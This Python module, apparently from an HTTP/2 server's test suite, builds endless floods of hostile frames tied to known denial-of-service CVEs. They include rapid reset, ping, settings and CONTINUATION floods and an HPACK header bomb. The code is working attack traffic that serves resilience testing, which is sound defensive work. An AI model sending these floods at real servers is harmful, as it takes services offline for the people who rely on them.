"""What a hostile caller sends over one HTTP/2 connection, as often as one likes.

Each flood is named after what it is known as: rapid reset is CVE-2023-44487, a ping flood CVE-2019-9512, a settings
flood CVE-2019-9515, empty frames CVE-2019-9518, endless headers CVE-2024-27316 and its kin.
"""

import struct
from collections.abc import Callable, Iterator
from itertools import count

from tests.http2 import END_HEADERS, END_STREAM, Kind, call_headers, field, frame

Flood = Callable[[], Iterator[bytes]]
"""What to send after the opening, without an end."""

_CANCEL = struct.pack(">I", 8)
_CALL = call_headers()
_MANY = 500  # small frames in one piece


def _streams() -> Iterator[int]:
    return count(1, 2)


def rapid_reset() -> Iterator[bytes]:
    streams = _streams()
    while True:
        yield b"".join(
            frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, _CALL) + frame(Kind.RESET, 0, stream, _CANCEL)
            for stream, _ in zip(streams, range(100), strict=False)
        )


def streams_without_end() -> Iterator[bytes]:
    for stream in _streams():
        yield frame(Kind.HEADERS, END_HEADERS, stream, _CALL)


def resets_of_nothing() -> Iterator[bytes]:
    for stream in _streams():
        yield frame(Kind.RESET, 0, stream, _CANCEL) * _MANY


def pings() -> Iterator[bytes]:
    while True:
        yield frame(Kind.PING, payload=b"12345678") * _MANY


def settings() -> Iterator[bytes]:
    while True:
        yield frame(Kind.SETTINGS, payload=struct.pack(">HI", 4, 65_535)) * _MANY


def window_updates() -> Iterator[bytes]:
    while True:
        yield frame(Kind.WINDOW_UPDATE, payload=struct.pack(">I", 1)) * _MANY


def priorities() -> Iterator[bytes]:
    for stream in _streams():
        yield frame(Kind.PRIORITY, 0, stream, bytes(4) + b"\x10") * _MANY


def unknown_frames() -> Iterator[bytes]:
    while True:
        yield frame(0x77, payload=bytes(1_000)) * 50


def empty_data() -> Iterator[bytes]:
    yield frame(Kind.HEADERS, END_HEADERS, 1, _CALL)
    while True:
        yield frame(Kind.DATA, 0, 1) * _MANY


def endless_headers() -> Iterator[bytes]:
    yield frame(Kind.HEADERS, 0, 1, _CALL)
    while True:
        yield frame(Kind.CONTINUATION, 0, 1, field(b"x-a", bytes([98]) * 1_000) * 16)


def empty_continuations() -> Iterator[bytes]:
    yield frame(Kind.HEADERS, 0, 1, _CALL)
    while True:
        yield frame(Kind.CONTINUATION, 0, 1) * _MANY


def large_headers() -> Iterator[bytes]:
    for stream in _streams():
        block = _CALL + b"".join(field(b"x-%d" % number, bytes([98]) * 150) for number in range(100))
        yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, block)


def header_bomb() -> Iterator[bytes]:
    """A long field is put into HPACK's table, and named 16,000 times by one byte each."""
    for stream in _streams():
        block = _CALL + field(b"x-b", bytes([98]) * 3_900, indexed=True) + b"\xbe" * 16_000
        yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, block)


FLOODS: dict[str, Flood] = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        streams_without_end,
        resets_of_nothing,
        pings,
        settings,
        window_updates,
        priorities,
        unknown_frames,
        empty_data,
        endless_headers,
        empty_continuations,
        large_headers,
        header_bomb,
    )
}
